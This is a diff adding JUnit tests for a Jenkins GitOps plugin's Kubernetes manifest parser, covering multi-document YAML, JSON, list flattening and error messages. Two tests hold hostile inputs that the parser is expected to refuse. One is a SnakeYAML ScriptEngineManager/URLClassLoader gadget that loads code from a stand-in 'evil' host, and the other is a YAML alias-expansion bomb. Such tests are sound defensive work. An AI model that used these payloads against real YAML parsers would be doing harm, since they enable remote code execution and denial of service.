@@ -1,0 +1,104 @@
+package io.jenkins.plugins.gitops.render;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+class ManifestParserTest {
+
+    @Test
+    void multiDocumentYamlSkipsEmptyAndCommentOnlyDocuments() {
+        List<RenderedObject> objs = ManifestParser.parse("""
+                # leading comment
+                ---
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {name: a, creationTimestamp: 2024-01-01T00:00:00Z}
+                ---
+                ---
+                # only a comment
+                ---
+                apiVersion: apps/v1
+                kind: Deployment
+                metadata: {name: b, namespace: ns}
+                """, "apps/x.yaml");
+
+        assertThat(objs).extracting(o -> o.object().key().toString()).containsExactly("ConfigMap/a", "Deployment.apps/ns/b");
+        assertThat(objs.get(0).source()).contains("apps/x.yaml");
+        assertThat(objs.get(0).object().at("/metadata/creationTimestamp").isTextual()).as("timestamps stay strings").isTrue();
+    }
+
+    @Test
+    void listKindsAreFlattened() {
+        List<RenderedObject> objs = ManifestParser.parse("""
+                apiVersion: v1
+                kind: List
+                items:
+                - {apiVersion: v1, kind: ConfigMap, metadata: {name: a}}
+                - {apiVersion: v1, kind: ConfigMap, metadata: {name: b}}
+                """, "list.yaml");
+        assertThat(objs).extracting(o -> o.object().name()).containsExactly("a", "b");
+    }
+
+    @Test
+    void jsonFilesAreReadAsJson() {
+        List<RenderedObject> objs = ManifestParser.parse("""
+                {"apiVersion": "v1", "kind": "ConfigMapList", "items": [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "j"}}]}
+                """, "a.json");
+        assertThat(objs).extracting(o -> o.object().name()).containsExactly("j");
+    }
+
+    @Test
+    void invalidYamlNamesFileAndLine() {
+        assertThatThrownBy(() -> ManifestParser.parse("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n   bad: [\n", "apps/broken.yaml"))
+                .isInstanceOf(RenderException.class)
+                .hasMessageStartingWith("apps/broken.yaml:5:");
+    }
+
+    @Test
+    void invalidJsonNamesFileAndLine() {
+        assertThatThrownBy(() -> ManifestParser.parse("{\n\"kind\": \"ConfigMap\",\n\"x\": ]\n}", "a.json"))
+                .isInstanceOf(RenderException.class)
+                .hasMessageStartingWith("a.json:3:");
+    }
+
+    @Test
+    void globalTagsAndJavaTypesAreRefused() {
+        assertThatThrownBy(() -> ManifestParser.parse("""
+                apiVersion: v1
+                kind: ConfigMap
+                metadata: {name: a}
+                data: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
+                """, "evil.yaml"))
+                .isInstanceOf(RenderException.class)
+                .hasMessageStartingWith("evil.yaml:4:");
+    }
+
+    @Test
+    void aliasBombsAreRefused() {
+        StringBuilder sb = new StringBuilder("a: &a [x,x,x,x,x,x,x,x,x]\n");
+        for (char c = 'b'; c <= 'k'; c++) {
+            char prev = (char) (c - 1);
+            sb.append(c).append(": &").append(c).append(" [*").append(prev).append(",*").append(prev).append(",*").append(prev)
+                    .append(",*").append(prev).append(",*").append(prev).append(",*").append(prev).append(",*").append(prev)
+                    .append(",*").append(prev).append(",*").append(prev).append("]\n");
+        }
+        assertThatThrownBy(() -> ManifestParser.parse(sb.toString(), "bomb.yaml")).isInstanceOf(RenderException.class).hasMessageContaining("bomb.yaml");
+    }
+
+    @Test
+    void documentsThatAreNotObjectsNameTheirLine() {
+        assertThatThrownBy(() -> ManifestParser.parse("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\n- a\n- b\n", "x.yaml"))
+                .hasMessage("x.yaml:5: a manifest must be a mapping, got array");
+        assertThatThrownBy(() -> ManifestParser.parse("---\nmetadata: {name: a}\n", "x.yaml"))
+                .hasMessage("x.yaml:2: not a Kubernetes object: object has no kind");
+    }
+
+    @Test
+    void duplicateKeysAreAnError() {
+        assertThatThrownBy(() -> ManifestParser.parse("kind: A\nkind: B\napiVersion: v1\n", "dup.yaml"))
+                .isInstanceOf(RenderException.class).hasMessageStartingWith("dup.yaml:");
+    }
+}
